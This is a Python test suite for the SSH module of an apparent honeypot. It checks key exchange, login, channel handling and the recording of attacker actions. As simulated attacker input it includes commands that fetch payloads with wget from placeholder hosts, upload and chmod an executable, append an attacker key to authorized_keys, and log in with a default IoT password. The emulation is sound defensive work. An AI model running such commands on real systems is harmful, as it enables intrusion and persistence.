"""SSH, a step at a time: how it identifies itself, exchanges keys, lets in, and what a channel does."""

from __future__ import annotations

import hashlib

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from eudaemon.events.catalogue import (
    CommandEntered,
    ForwardingAsked,
    LoginTried,
    PublicKeyOffered,
    SshClientIdentified,
)  # fmt: skip
from eudaemon.protocols import load
from eudaemon.protocols._base import Claim, Drained
from eudaemon.protocols._front import Front
from eudaemon.protocols.ssh import Ssh, fields
from eudaemon.protocols.ssh.connection import BURST_BYTES_MAX, CHANNELS_MAX, REQUESTS_MAX
from eudaemon.protocols.ssh.fields import Fields, message, names, number, string
from eudaemon.protocols.ssh.login import ASKED_MAX
from eudaemon.protocols.ssh.products import PRODUCTS, product_of
from eudaemon.protocols.ssh.transport import EXCHANGES_MAX, IDENTIFICATION_BYTES_MAX, IDLE_MESSAGES_MAX
from eudaemon.testing.script import Table, visit
from eudaemon.wire import Purse
from eudaemon.wire.conversation import ATTACKER, HOST
from eudaemon.world.host import Host
from eudaemon.world.personas import PERSONAS
from eudaemon.world.seed import Seed
from eudaemon.world.shell.limits import LINE_BYTES_MAX
from protocols.ssh_client import Client, connected, logged_in


def drawn(software: str) -> tuple[bytes, str]:
    """Return seed and persona of an installation that runs this server."""
    for persona in PERSONAS:
        for number_ in range(40):
            seed = b"%d" % number_
            if product_of(Host.from_seed(Seed(seed), persona=persona.name)).software == software:
                return seed, persona.name
    raise LookupError(software)


def host_with(software: str) -> Host:
    """Return a host that runs this server."""
    seed, persona = drawn(software)
    return Host.from_seed(Seed(seed), persona=persona)


SMALL = host_with("dropbear_2016.74")
STRICT = host_with("dropbear_2024.86")
LARGE = host_with("OpenSSH_7.9")


def table(host: Host = SMALL, bytes_max: int = 32 << 20) -> Table:
    return Table(Ssh(visit(host=host, port=22, purse=Purse(bytes_max)))).open()


def facts(table: Table, kind: type) -> list[object]:
    return [fact for fact in table.facts if isinstance(fact, kind)]


# --- the transport ---------------------------------------------------------------------------------


def test_a_session_from_its_first_byte_to_its_last() -> None:
    client = logged_in(table())
    assert client.run(b"echo $((6*7)); false") == (b"42\n", 1)
    algorithms = "curve25519-sha256@libssh.org;aes128-ctr;hmac-sha1;none"
    hassh = hashlib.md5(algorithms.encode()).hexdigest()
    assert facts(client.table, SshClientIdentified) == [
        SshClientIdentified("SSH-2.0-Go", hassh, algorithms, product_of(SMALL).host_keys[0][0])
    ]
    assert facts(client.table, LoginTried) == [LoginTried("root", "xc3511", accepted=True)]
    assert facts(client.table, CommandEntered) == [CommandEntered("echo $((6*7)); false")]


@pytest.mark.parametrize("product", PRODUCTS, ids=lambda product: product.software)
def test_every_product_is_some_hosts_and_identifies_itself(product: object) -> None:
    host = host_with(product.software)  # type: ignore[attr-defined]
    given = table(host)
    said = f"SSH-2.0-{product.software}\r\n".encode()  # type: ignore[attr-defined]
    assert given.sent.startswith(said)
    assert (len(given.sent) > len(said)) is product.hasty  # type: ignore[attr-defined]
    client = Client(given, mac=product.macs[-1])  # type: ignore[attr-defined]
    client.identify()
    client.offer()
    client.agree()
    client.change()
    client.ask_service()


def test_the_same_installation_shows_the_same_key_and_no_other_does() -> None:
    from eudaemon.protocols.ssh.keys import HostKeys

    for algorithm in ("ssh-rsa", "ssh-ed25519", "ecdsa-sha2-nistp256", "ecdsa-sha2-nistp521"):
        one, same, other = (HostKeys(Seed(seed)).public(algorithm) for seed in (b"1", b"1", b"2"))
        assert one == same != other


@pytest.mark.parametrize(
    ("cipher", "mac"),
    [("chacha20-poly1305@openssh.com", ""), ("aes128-gcm@openssh.com", ""), ("aes256-gcm@openssh.com", "")]
    + [("aes256-ctr", mac) for mac in product_of(LARGE).macs],
)
def test_every_mac_and_every_cipher_that_needs_none(cipher: str, mac: str) -> None:
    client = logged_in(table(LARGE), cipher=cipher, mac=mac or "hmac-sha1")
    assert client.run(b"echo " + b"x" * 3000)[0] == b"x" * 3000 + b"\n"
    good = client.sealer.seal(message(fields.IGNORE, string(b"")))
    client.say(good[:-1] + bytes((good[-1] ^ 1,)))
    assert client.table.fault == "an SSH packet that was changed on its way"


@pytest.mark.parametrize("cipher", ["aes128-cbc", "aes256-cbc", "3des-cbc", "aes128-ctr"])
def test_old_ciphers(cipher: str) -> None:
    client = logged_in(table(), cipher=cipher)
    assert client.run(b"echo a") == (b"a\n", 0)


def test_a_cipher_that_the_product_has_and_we_have_not_is_the_peers_loss() -> None:
    client = Client(table(), cipher="twofish256-cbc")
    client.identify()
    client.offer()
    client.table.say(client.sealer.seal(message(30, string(b"\x09" + bytes(31)))))
    assert client.table.fault == "wants the cipher twofish256-cbc, which is not carried out"


def test_a_strict_exchange_counts_anew_and_takes_nothing_between() -> None:
    client = logged_in(table(STRICT), cipher="chacha20-poly1305@openssh.com", strict=True)
    assert client.run(b"echo a") == (b"a\n", 0)
    client.exchange()
    assert client.run(b"echo b") == (b"b\n", 0)
    client = Client(table(STRICT), strict=True)
    client.identify()
    client.offer()
    client.send(message(fields.IGNORE, string(b"")))
    assert client.table.fault == "SSH message 2 within a strict key exchange"
    client = Client(table(STRICT), strict=True)
    client.identify()
    client.send(message(fields.IGNORE, string(b"")))
    client.table.say(client.sealer.seal(b""))
    assert client.table.fault  # an empty packet is none
    client = Client(table(STRICT), strict=True)
    client.identify()
    client.send(message(fields.IGNORE, string(b"")))
    client.offer()
    assert client.table.fault == "a strict key exchange that does not begin with its first message"


def test_keys_are_exchanged_again_while_a_command_waits() -> None:
    client = logged_in(table())
    channel = client.open_session()
    client.request(channel, b"exec", string(b"wget -O - http://198.51.100.7/x"))
    client.output()
    client.offer()
    client.table.answer("ok", b"brought")  # its output must wait for the keys
    client._listen()
    assert client.output() == b""
    client.agree()
    client.change()
    assert b"brought" in client.output()
    assert client.status() == 0


def test_a_wrong_guess_is_passed_over() -> None:
    client = Client(table())
    client.identify()
    client.offer(("ssh-rsa",), follows=True)
    client.send(message(30, string(b"of another method")))
    client.agree()
    client.change()
    client.ask_service()


def test_compression_begins_when_somebody_is_in() -> None:
    client = connected(table(), compression="zlib@openssh.com")
    client.ask_service()
    client.log_in()
    client.sealer.compress()
    client.opener.decompress()
    assert client.run(b"echo " + b"a" * 5000)[0] == b"a" * 5000 + b"\n"
    client.send(message(fields.IGNORE, string(bytes(40_000))))
    assert client.table.fault == "an SSH packet that grows beyond 35000 bytes, or is empty"


@pytest.mark.parametrize("line", [b"GET / HTTP/1.0\r\n", b"SSH-1.5-old\r\n", b"\n"])
def test_who_does_not_speak_ssh(line: bytes) -> None:
    for host in (SMALL, LARGE):
        given = table(host)
        before = len(given.sent)
        given.say(line, split=1)
        assert given.fault == "does not identify itself as SSH 2"
        product = product_of(host)
        assert given.sent[before:] == (product.too_old if line.startswith(b"SSH-") else product.mismatch)


def test_what_the_machines_own_server_says_to_who_speaks_an_old_version() -> None:
    """As sshd 9.2 answered; and to what is none of SSH's versions, which makes cowrie known (nuclei's templates)."""
    new = next(product for product in PRODUCTS if product.software == "OpenSSH_8.4")
    assert new.too_old == b"Protocol major versions differ.\r\n"
    given = table(LARGE)
    before = len(given.sent)
    given.say(b"SSH-1337-OpenSSH_9.0\r\n")
    assert given.sent[before:] == product_of(LARGE).mismatch


def test_how_long_an_identification_may_be() -> None:
    given = table()
    given.say(b"SSH-2.0-".ljust(IDENTIFICATION_BYTES_MAX, b"a"))
    assert not given.fault
    given.say(b"a")
    assert given.fault == f"an SSH identification over {IDENTIFICATION_BYTES_MAX} bytes"


@pytest.mark.parametrize("length", [0, 4, 35_001, 2**32 - 1])
def test_a_length_that_is_none(length: int) -> None:
    client = Client(table())
    client.identify()
    client.say(number(length) + bytes(12))
    assert "with a length" in client.table.fault


def test_nothing_in_common() -> None:
    client = Client(table(), kex="something-else")
    client.identify()
    client.table.say(client.sealer.seal(message(
        fields.KEXINIT, bytes(16), names(["none-of-it"]), *(names(["a"]) for _ in range(7)), string(b""), string(b""),
        b"\0", number(0),
    )))  # fmt: skip
    assert client.table.fault == "no key exchange that both sides know"
    (seen,) = facts(client.table, SshClientIdentified)
    assert seen.algorithms == "none-of-it;a;a;a"  # type: ignore[attr-defined]


def test_how_often_keys_may_be_exchanged() -> None:
    client = connected(table())
    for _ in range(EXCHANGES_MAX - 1):
        client.exchange()
    client.table.say(client.sealer.seal(client._ours))
    assert client.table.fault == f"more than {EXCHANGES_MAX} key exchanges"


def test_how_much_may_be_said_that_says_nothing() -> None:
    client = connected(table())
    for _ in range(IDLE_MESSAGES_MAX):
        client.send(message(fields.IGNORE, string(b"")))
    assert not client.table.fault
    client.send(message(fields.DEBUG, b"\0", string(b""), string(b"")))
    assert client.table.fault == f"more than {IDLE_MESSAGES_MAX} SSH messages that say nothing"


# --- logging in ------------------------------------------------------------------------------------


REFUSED = next(word for word in (b"wrong", b"wrong again", b"never") if not SMALL.accepts(b"root", word))
REFUSED_LARGE = next(word for word in (b"wrong", b"wrong again", b"never") if not LARGE.accepts(b"root", word))


@pytest.mark.parametrize(("host", "words"), [(SMALL, b""), (LARGE, b"Too many authentication failures")])
def test_how_often_one_may_try(host: Host, words: bytes) -> None:
    client = connected(table(host))
    client.ask_service()
    refused = REFUSED if host is SMALL else REFUSED_LARGE
    tries = product_of(host).tries_max
    for number_ in range(tries):
        assert not client.table.over
        client.ask(b"root", b"password", b"\0", string(refused))
        if number_ < tries - 1:
            assert client.take(fields.USERAUTH_FAILURE).names() == product_of(host).methods
    assert client.table.over
    assert not client.table.fault
    assert len(facts(client.table, LoginTried)) == tries
    assert [payload[0] for payload in client.heard] == [fields.DISCONNECT] * bool(words)
    assert words in b"".join(client.heard)


def test_asking_for_nothing_is_no_way_in() -> None:
    client = connected(table())
    client.ask_service()
    for _ in range(ASKED_MAX):
        client.ask(b"root", b"none")
        assert client.take(fields.USERAUTH_FAILURE).names() == ("publickey", "password")
    client.ask(b"root", b"keyboard-interactive", string(b""), string(b""))  # which this product does not have
    assert client.table.fault == f"asks more than {ASKED_MAX} times how to log in"
    assert not facts(client.table, LoginTried)


def test_keyboard_interactive() -> None:
    client = connected(table(LARGE))
    client.ask_service()
    client.ask(b"root", b"keyboard-interactive", string(b""), string(b""))
    read = client.take(fields.USERAUTH_INFO_REQUEST)
    assert [read.string(), read.string(), read.string(), read.number(), read.string()] == [
        b"",
        b"",
        b"",
        1,
        b"Password: ",
    ]
    client.send(message(fields.USERAUTH_INFO_RESPONSE, number(1), string(b"xc3511")))
    client.take(fields.USERAUTH_SUCCESS)
    client = connected(table(LARGE))
    client.ask_service()
    client.send(message(fields.USERAUTH_INFO_RESPONSE, number(1), string(b"xc3511")))
    assert client.table.fault == "answers what it was not asked"


def test_public_keys_are_noted_and_refused() -> None:
    key = string(b"ssh-ed25519") + string(b"\x07" * 32)
    client = connected(table())
    client.ask_service()
    client.ask(b"git", b"publickey", b"\0", string(b"ssh-ed25519"), string(key))
    client.take(fields.USERAUTH_FAILURE)
    assert facts(client.table, PublicKeyOffered) == [
        PublicKeyOffered(
            "git", "ssh-ed25519", "SHA256:gNSIRW+2Iyiuvsdp/bgjy38bvWHw6wQm3tuoXrl3WjQ",
            "AAAAC3NzaC1lZDI1NTE5AAAAIAcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcH",
        )
    ]  # fmt: skip


def test_nothing_works_before_logging_in() -> None:
    client = connected(table())
    client.send(message(fields.CHANNEL_OPEN, string(b"session"), number(0), number(1), number(1)))
    assert client.table.fault == "SSH message 90 before logging in"


# --- channels --------------------------------------------------------------------------------------


def test_a_shell_on_a_terminal_edits_lines() -> None:
    client = logged_in(table())
    channel = client.open_session()
    client.terminal(channel)
    client.request(channel, b"shell")
    assert client.output() == (
        f"\r\n\r\n{SMALL.busybox_line} built-in shell (ash)\r\n"
        "Enter 'help' for a list of built-in commands.\r\n\r\n".encode()
        + SMALL.prompt
    )
    client.data(channel, b"ecxx\x7f\x7fho a\r")
    assert client.output() == b"ecxx\b \b\b \bho a\r\na\r\n" + SMALL.prompt
    client.data(channel, b"exit\r")
    assert client.output() == b"exit\r\n"
    assert client.status() == 0
    recorded = client.table.recorded
    assert b"".join(each.data for each in recorded if each.side == ATTACKER) == b"ecxx\x7f\x7fho a\rexit\r"
    assert b"a\r\na\r\n" in b"".join(each.data for each in recorded if each.side == HOST)


def test_a_shell_without_a_terminal() -> None:
    client = logged_in(table())
    channel = client.open_session()
    client.request(channel, b"shell")
    client.data(channel, b"cd /tmp\npwd\nec")
    client.data(channel, b"ho b")
    client.end(channel)
    assert client.output() == b"/tmp\nb\n"
    assert client.status() == 0


def test_commands_of_one_session_share_its_files() -> None:
    client = logged_in(table())
    assert client.run(b"echo one > /tmp/f; mkdir /tmp/d") == (b"", 0)
    assert client.run(b"cat /tmp/f; ls -d /tmp/d") == (b"one\n/tmp/d\n", 0)
    assert client.run(b"nothing-of-it") == (b"sh: nothing-of-it: not found\n", 127)


def test_a_command_reads_what_it_is_sent() -> None:
    client = logged_in(table())
    data = bytes(range(256)) * 90
    assert client.run(b"cat > /tmp/up; chmod +x /tmp/up", data[:20_000]) == (b"", 0)
    assert client.run(b"wc -c < /tmp/up") == (b"20000\n", 0)
    client.table.end()
    assert [(kept.name, kept.data, kept.partial) for kept in client.table.kept] == [("/tmp/up", data[:20_000], False)]


def test_what_a_command_was_being_sent_when_the_peer_left_is_kept() -> None:
    client = logged_in(table())
    channel = client.open_session()
    client.request(channel, b"exec", string(b"cat > /tmp/up"))
    client.data(channel, b"\x7fELF and so on")
    client.table.end()
    assert [(kept.name, kept.data, kept.partial) for kept in client.table.kept] == [
        ("/tmp/up", b"\x7fELF and so on", True)
    ]


def test_what_was_being_sent_when_the_channel_was_closed_is_kept_and_nothing_is_said() -> None:
    client = logged_in(table())
    channel = client.open_session()
    client.request(channel, b"exec", string(b"cat > /tmp/up; echo done"))
    client.data(channel, b"\x7fELF and so on")
    client.send(message(fields.CHANNEL_CLOSE, number(channel)))
    client.take(fields.CHANNEL_CLOSE)
    assert not client.heard  # and all that came was enciphered
    assert [(kept.name, kept.data, kept.partial) for kept in client.table.kept] == [
        ("/tmp/up", b"\x7fELF and so on", True)
    ]


def test_how_much_is_kept_of_one_session(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("eudaemon.protocols.ssh.connection.KEPT_BYTES_MAX", 3000)
    client = logged_in(table())
    for number_, size in enumerate((1000, 2000, 1)):
        channel = client.open_session()
        client.request(channel, b"exec", string(b"scp -t /tmp"))
        client.data(channel, b"C0644 %d f%d\n" % (size, number_) + bytes(size) + b"\0")
        client.send(message(fields.CHANNEL_CLOSE, number(channel)))
        client.heard.clear()
    assert client.table.fault == "more than 3000 bytes to keep"
    assert [len(kept.data) for kept in client.table.kept] == [1000, 2000]


def test_an_authorized_key_is_kept() -> None:
    key = b"ssh-rsa AAAAB3NzaC1yc2E= mdrfckr"
    client = logged_in(table())
    client.run(b"mkdir -p ~/.ssh && echo '%b' >> ~/.ssh/authorized_keys" % key)
    client.table.end()
    assert [(kept.name, kept.data) for kept in client.table.kept] == [("/root/.ssh/authorized_keys", key + b"\n")]


def test_a_download_is_awaited_within_a_command() -> None:
    client = logged_in(table())
    channel = client.open_session()
    client.request(channel, b"exec", string(b"wget http://198.51.100.7/x -O /tmp/x; echo done"))
    assert client.table.wishes[0].download.url == "http://198.51.100.7/x"
    client.table.answer("ok", b"\x7fELF")
    client._listen()
    assert client.output().endswith(b"done\n")


def test_two_commands_wait_at_once() -> None:
    client = logged_in(table())
    first = client.open_session(0)
    second = client.open_session(1)
    client.request(first, b"exec", string(b"wget -q -O - http://198.51.100.7/1"))
    client.request(second, b"exec", string(b"wget -q -O - http://198.51.100.7/2"))
    client.table.answer("ok", b"one")
    client.table.answer("ok", b"two")
    client._listen()
    assert (client.output(0), client.output(1)) == (b"one", b"two")


def test_sleep_takes_its_time_on_a_terminal_only() -> None:
    client = logged_in(table())
    channel = client.open_session()
    client.terminal(channel)
    client.request(channel, b"exec", string(b"sleep 5; echo up"))
    assert client.output() == b""
    client.table.wait(6)
    client._listen()
    assert client.output() == b"up\r\n"


def test_ctrl_c_ends_a_command_on_a_terminal() -> None:
    client = logged_in(table())
    channel = client.open_session()
    client.terminal(channel)
    client.request(channel, b"exec", string(b"sleep 50; echo up"))
    client.data(channel, b"\x03")
    assert client.output() == b""
    assert client.status() == 130


def test_output_keeps_to_the_window() -> None:
    client = logged_in(table(), window=1000)
    channel = client.open_session()
    client.request(channel, b"exec", string(b"yes abcdefghi | head -n 300"))
    assert len(client.output()) == 1000
    client.send(message(fields.CHANNEL_WINDOW_ADJUST, number(channel), number(1500)))
    assert len(client.output()) == 1500
    client.send(message(fields.CHANNEL_WINDOW_ADJUST, number(channel), number(2**20)))
    assert len(client.output()) == 500
    assert client.status() == 0
    client.send(message(fields.CHANNEL_WINDOW_ADJUST, number(channel), number(2**32 - 1)))
    assert client.table.fault == "opens an SSH window beyond its limit"


def test_no_more_is_sent_than_is_on_its_way() -> None:
    client = logged_in(table())
    client.table.drains = False
    channel = client.open_session()
    client.request(channel, b"exec", string(b"seq 50000"))
    first = len(client.output())
    assert BURST_BYTES_MAX <= first < 2 * BURST_BYTES_MAX
    for _ in range(8):
        client.table.tell(Drained(client.table.at_s))
        client._listen()
    assert first + len(client.output()) == 288_894
    assert client.status() == 0


def test_more_than_the_window_is_no_input() -> None:
    client = logged_in(table())
    channel = client.open_session()
    size = product_of(SMALL).window_bytes
    client.data(channel, bytes(size))  # to a channel in which nothing runs yet
    assert not client.table.fault
    client.data(channel, b"x")
    assert client.table.fault == "sends more than an SSH channel's window allows"


def test_how_many_channels_there_may_be() -> None:
    client = logged_in(table())
    for number_ in range(CHANNELS_MAX):
        assert client.open_session(number_) == number_
    client.send(message(fields.CHANNEL_OPEN, string(b"session"), number(99), number(1), number(1)))
    read = client.take(fields.CHANNEL_OPEN_FAILURE)
    assert (read.number(), read.number()) == (99, 4)


def test_how_many_requests_there_may_be() -> None:
    client = logged_in(table())
    for _ in range(REQUESTS_MAX):
        client.send(message(fields.GLOBAL_REQUEST, string(b"keepalive@openssh.com"), b"\0"))
    assert not client.table.fault
    client.send(message(fields.GLOBAL_REQUEST, string(b"keepalive@openssh.com"), b"\0"))
    assert client.table.fault == f"more than {REQUESTS_MAX} SSH requests"


def test_how_much_may_be_done_to_files() -> None:
    client = logged_in(table())
    channel = client.open_session()
    client.request(channel, b"subsystem", string(b"sftp"))
    list_ = string(message(11, number(1), string(b"/nothing")))
    make = string(message(14, number(1), string(b"/tmp/d"), number(0)))
    remove = string(message(15, number(1), string(b"/tmp/d")))
    client.data(channel, list_)  # what cannot be done is not counted, and not stated
    for _ in range((REQUESTS_MAX - 1) // 2):
        client.data(channel, make + remove)
        client.heard.clear()
    client.data(channel, make)
    assert client.table.fault == f"more than {REQUESTS_MAX} SSH requests"


def test_ssh_shares_a_port_with_http() -> None:
    def front() -> Table:
        return Table(Front(visit(host=SMALL), (Ssh, load("http")), load("catchall"))).open()

    assert front().say(b"GET / HTTP/1.0\r\n\r\n").startswith(b"HTTP/1.")
    assert front().say(b"SSH-2.0-Go\r\n").startswith(b"SSH-2.0-dropbear")


def test_nobody_is_connected_elsewhere() -> None:
    client = logged_in(table(LARGE))
    target = string(b"192.0.2.80") + number(443) + string(b"127.0.0.1") + number(5000)
    client.send(message(fields.CHANNEL_OPEN, string(b"direct-tcpip"), number(7), number(1), number(1), target))
    read = client.take(fields.CHANNEL_OPEN_FAILURE)
    assert (read.number(), read.number(), read.string()) == (7, 1, b"open failed")
    client.send(message(fields.GLOBAL_REQUEST, string(b"tcpip-forward"), b"\1", string(b""), number(8080)))
    client.take(fields.REQUEST_FAILURE)
    assert facts(client.table, ForwardingAsked) == [
        ForwardingAsked("direct-tcpip", "192.0.2.80", 443), ForwardingAsked("tcpip-forward", "", 8080),
    ]  # fmt: skip


def test_what_nobody_understands_is_said_to_be_so() -> None:
    client = logged_in(table())
    sequence = client.sealer.sequence
    client.send(message(199))
    assert client.take(fields.UNIMPLEMENTED).number() == sequence
    channel = client.open_session()
    client.send(message(fields.CHANNEL_REQUEST, number(channel), string(b"x11-req"), b"\1"))
    client.take(fields.CHANNEL_FAILURE)


def test_how_long_a_command_may_be() -> None:
    client = logged_in(table())
    assert client.run(b"true " + b"x" * (30_000))[1] == 0
    channel = client.open_session()
    assert LINE_BYTES_MAX > 35_000  # no packet carries more
    client.request(channel, b"exec", string(b"echo 'unfinished"))
    assert client.output() == b"sh: syntax error: unterminated quoted string\n"
    assert client.status() == 2


def test_a_channel_that_is_not_there() -> None:
    client = logged_in(table())
    client.data(5, b"x")
    assert client.table.fault == "names an SSH channel that is not there"


def test_claims() -> None:
    assert Ssh.claim(b"S") is Claim.UNSURE
    assert Ssh.claim(b"SSH-2.0-x") is Claim.YES
    assert Ssh.claim(b"GET /") is Claim.NO


def test_fields_end_where_they_end() -> None:
    read = Fields(string(b"abc") + number(7))
    assert (read.string(), read.number(), read.rest()) == (b"abc", 7, b"")


# --- whatever is sent, properly enciphered ---------------------------------------------------------

WORDS = [
    *b"session direct-tcpip tcpip-forward shell exec subsystem sftp pty-req env root xc3511 ssh-connection".split(),
    *b"ssh-userauth password publickey none keyboard-interactive".split(),
    b"id; cat > x", b"scp -t /tmp", b"wget http://192.0.2.9/x", b"sleep 9", b"C0644 3 x\n", b"exit\n", b"\x03", b"\x04",
]  # fmt: skip
PARTS = st.one_of(
    st.sampled_from(WORDS).map(string), st.binary(max_size=8), st.integers(0, 2).map(number),
    st.integers(0, 2**32 - 1).map(number), st.sampled_from([b"\0", b"\1"]),
)  # fmt: skip
KINDS = st.sampled_from([1, 2, 4, 5, 7, 20, 21, 30, 31, 34, 50, 61, 80, 90, 93, 94, 95, 96, 97, 98, 99]) | st.integers(
    0, 255
)
LIKELY = st.one_of(
    st.sampled_from(WORDS).map(lambda word: message(94, number(0), string(word))),
    st.sampled_from(WORDS).map(lambda word: message(98, number(0), string(b"exec"), b"\1", string(word))),
    st.sampled_from(WORDS).map(lambda word: message(98, number(0), string(word), b"\1", string(b"sftp"))),
    st.just(message(90, string(b"session"), number(0), number(300), number(100))),
    st.just(message(93, number(0), number(100))), st.just(message(96, number(0))), st.just(message(97, number(0))),
)  # fmt: skip
SAID = st.lists(
    LIKELY | st.tuples(KINDS, st.lists(PARTS, max_size=5)).map(lambda drawn: message(drawn[0], *drawn[1])), max_size=14
)


@pytest.mark.parametrize("stage", ["connected", "logged in", "in a channel"])
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(said=SAID, wait=st.booleans(), reads=st.booleans())
def test_no_message_is_a_fault_of_ours(stage: str, said: list[bytes], wait: bool, reads: bool) -> None:
    given = table()
    client = connected(given) if stage == "connected" else logged_in(given, window=500)
    if stage == "in a channel":
        client.open_session()
    given.drains = reads
    for payload in said:
        given.say(client.sealer.seal(payload))
        if wait:
            given.wait(10)
        if given.wishes and not given.over:
            given.answer("ok", b"#!/bin/sh\nid\n")
    purse = given.room.visit.purse
    given.end()
    assert 0 <= purse.bytes_taken <= purse.bytes_max
    purse.close()
